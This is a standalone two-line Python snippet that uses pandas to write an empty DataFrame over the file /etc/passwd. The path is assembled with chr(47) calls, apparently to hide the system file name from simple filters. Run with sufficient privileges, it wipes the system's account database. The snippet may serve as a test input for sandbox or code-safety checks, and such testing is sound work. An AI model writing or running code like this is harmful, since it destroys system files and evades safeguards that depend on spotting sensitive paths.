import pandas as pd
pd.DataFrame.to_csv(pd.DataFrame(), chr(47) + "etc" + chr(47) + "passwd")
